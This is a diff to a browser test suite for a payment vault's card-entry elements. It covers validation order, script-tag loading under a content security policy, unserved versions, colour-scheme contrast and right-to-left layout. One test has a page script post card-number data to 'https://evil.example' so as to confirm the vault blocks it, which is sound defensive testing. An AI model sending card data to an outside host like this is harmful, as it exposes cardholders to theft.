@@ -4,6 +4,7 @@ import assert from 'node:assert/strict';
 import { click } from '../lib/click.js';
 import { CARD, DOMAIN, attempt, elementFrame, elementsHtml, lastChange, openTagged, succeeds, typeCard, typeParts } from '../lib/elements.js';
 import { publicKey } from '../lib/fields.js';
+import { boxOf, look as lookAt } from '../lib/pixels.js';
 
 export const name = 'elements';
 
@@ -39,9 +40,10 @@ const CARD_DATA = '{ number: el.number, expiration_month: el.expiry.month(), exp
 
 const checkWebElements = async (h, browser) => {
   const { page } = await openShop(h, browser, WEB);
-  const early = await attempt(h, page, `bt.tokens.create({ type: 'card', data: ${CARD_DATA} })`);
+  const early = await attempt(h, page, `bt.tokens.create({ type: 'card', data: { cvc: el.cvc, ...${CARD_DATA} } })`);
   assert.equal(early.error.name, 'BasisTheoryValidationError');
-  assert.deepEqual(early.error.validation.map(({ targetId }) => targetId).sort(), ['cvc', 'expiry', 'number']);
+  // In the order of the page, not of the request.
+  assert.deepEqual(early.error.validation.map(({ targetId }) => targetId), ['number', 'expiry', 'cvc']);
   await typeParts(page, CARD);
   await (await elementFrame(page, 'text')).type('#text', 'Ada Lovelace');
   const change = await h.until('the change', async () => {
@@ -74,6 +76,7 @@ const checkWebElements = async (h, browser) => {
   assert.deepEqual([refused.error.name, refused.error.status], ['BasisTheoryApiError', 400]);
   const client = await attempt(h, page, "bt.client.post('https://evil.example', { number: el.number })");
   assert.equal(client.error.name, 'BasisTheoryConfigurationError');
+  assert.match(client.error.message, /pages\.elements_hosts/);
   await h.axe(page);
   await h.closePage(page);
 };
@@ -162,33 +165,6 @@ createRoot(document.getElementById('root')).render(<App />);`);
   await h.closePage(page);
 };
 
-/** The parts of the package for phones that speak to the vault. An app has no origin, and its fields are its own. */
-const checkReactNative = async (h, browser) => {
-  const { page } = await openShop(h, browser, `
-import React from 'react';
-import { createRoot } from 'react-dom/client';
-import { getBasisTheoryInstance, loadBasisTheoryInstance } from '@basis-theory/react-native-elements/commonjs/services/basis-theory-js.js';
-import { _useConfigManager } from '@basis-theory/react-native-elements/commonjs/BasisTheoryProvider.js';
-import { useBinLookup } from '@basis-theory/react-native-elements/commonjs/components/useBinLookup.js';
-const Number_ = () => {
-  const { binInfo } = useBinLookup(true, '4242424242424242');
-  window.binInfo = binInfo;
-  return null;
-};
-(async () => {
-  await loadBasisTheoryInstance(KEY, 'https://VAULT');
-  _useConfigManager().setConfig({ apiKey: KEY, baseUrl: 'https://VAULT' });
-  window.bt = getBasisTheoryInstance();
-  createRoot(document.getElementById('root')).render(<Number_ />);
-  window.isReady = true;
-})().catch((error) => { window.failure = String(error.stack); });`);
-  const details = await h.until('the details of the BIN', () => page.evaluate(() => window.binInfo));
-  assert.deepEqual([details.brand, details.additional], ['Visa', []]);
-  const token = succeeds(await attempt(h, page, "bt.tokens.create({ type: 'token', data: 'from a phone' })"));
-  assert.equal((await h.api('GET', `/tokens/${token.id}`)).body.data, 'from a phone');
-  await h.closePage(page);
-};
-
 /** A page with a script tag and a policy of its own, on the vault's own address. */
 const checkScriptTag = async (h) => {
   const policy = `default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' ${h.vault.url}; frame-src ${h.vault.url}; style-src 'self' 'unsafe-inline'`;
@@ -196,7 +172,8 @@ const checkScriptTag = async (h) => {
   const shop = await h.shop(elementsHtml(`<script src="${h.vault.url}/web-elements/2.12.2/index.js"></script><script src="/shop.js"></script>`), { files, headers: { 'Content-Security-Policy': policy } });
   const { key } = await publicKey(h.api, [shop.origin], PERMISSIONS);
   files['/shop.js'] = { type: 'text/javascript', text: `(async () => {
-    window.bt = await basistheory(${JSON.stringify(key)});
+    window.bt = await BasisTheory.init(${JSON.stringify(key)}, { elements: true });
+    if (window.bt !== BasisTheory || await basistheory(${JSON.stringify(key)}) !== window.bt) throw new Error('The page has two sets of elements.');
     window.el = { card: window.record(bt.createElement('card', { targetId: 'card' })) };
     await window.el.card.mount(document.getElementById('card'));
     window.isReady = true;
@@ -212,6 +189,19 @@ const checkScriptTag = async (h) => {
   const pressed = await h.until('the key', () => page.evaluate(() => window.events.find(({ type }) => type === 'keydown')));
   assert.deepEqual([pressed.key, pressed.targetId], ['Enter', 'card']);
   await h.closePage(page);
+};
+
+/** A page that asks for a version that the vault does not serve sees the reason in its console. */
+const checkLaterVersion = async (h) => {
+  for (const path of ['3.1.0/client/index.js', '3.1.0/index.js']) {
+    const shop = await h.shop(elementsHtml(`<script src="${h.vault.url}/web-elements/${path}"></script>`));
+    const page = await h.openPage({ url: shop.origin });
+    const errors = h.complaints(page);
+    assert.ok(errors.length === 1 && errors[0].includes('serves Elements 1.x and 2.x, and not version 3.1.0.'), errors.join());
+    h.expectComplaint(page, /serves Elements/);
+    assert.deepEqual(await page.evaluate(() => [typeof window.BasisTheoryElements, typeof window.basistheory]), ['undefined', 'undefined']);
+    await h.closePage(page);
+  }
 };
 
 /** Every element of the example page, in every look. */
@@ -272,15 +262,36 @@ const checkDirection = async (h) => {
   await h.closePage(page);
 };
 
+/** A page that says by its meta element alone that it is dark: the digits can be read on its ground. */
+const checkScheme = async (h) => {
+  for (const [content, isDark] of [['dark', true], ['light dark', true], ['light', false]]) {
+    const head = `<meta charset="utf-8"><title>Shop</title><meta name="color-scheme" content="${content}">`;
+    const { page } = await openTagged(h, { number: "bt.createElement('cardNumber', { targetId: 'number' })" }, { head, page: { scheme: 'dark' } });
+    await typeParts(page, { number: CARD.number });
+    const { ground, contrast } = await lookAt(page, await boxOf(page, '#number iframe'));
+    assert.equal(Number(ground.split(' ')[0]) < 128, isDark, content);
+    assert.ok(contrast > 7, `${content}: the contrast is ${contrast}`);
+    await h.closePage(page);
+  }
+};
+
 export const run = async (h) => {
   const browser = await h.launch({ [DOMAIN]: h.vault.url });
   await h.step('web-elements', () => checkWebElements(h, browser));
   await h.step('react-elements', () => checkReactElements(h, browser));
   await h.step('basis-theory-js', () => checkJs(h, browser));
   await h.step('basis-theory-react', () => checkReact(h, browser));
-  await h.step('react-native-elements', () => checkReactNative(h, browser));
   await h.step('a script tag and a policy of the shop', () => checkScriptTag(h));
+  await h.step('a version that is not served', () => checkLaterVersion(h));
   await h.step('the example page', () => checkExample(h));
   await h.step('the keyboard alone', () => checkKeyboard(h));
+  await h.step('a scheme by a meta element', () => checkScheme(h));
+  await h.step('from right to left', () => checkDirection(h));
+};
+
+/** The part that the tests also run in Firefox. */
+export const core = async (h) => {
+  await h.step('a script tag and a policy of the shop', () => checkScriptTag(h));
+  await h.step('a version that is not served', () => checkLaterVersion(h));
   await h.step('from right to left', () => checkDirection(h));
 };
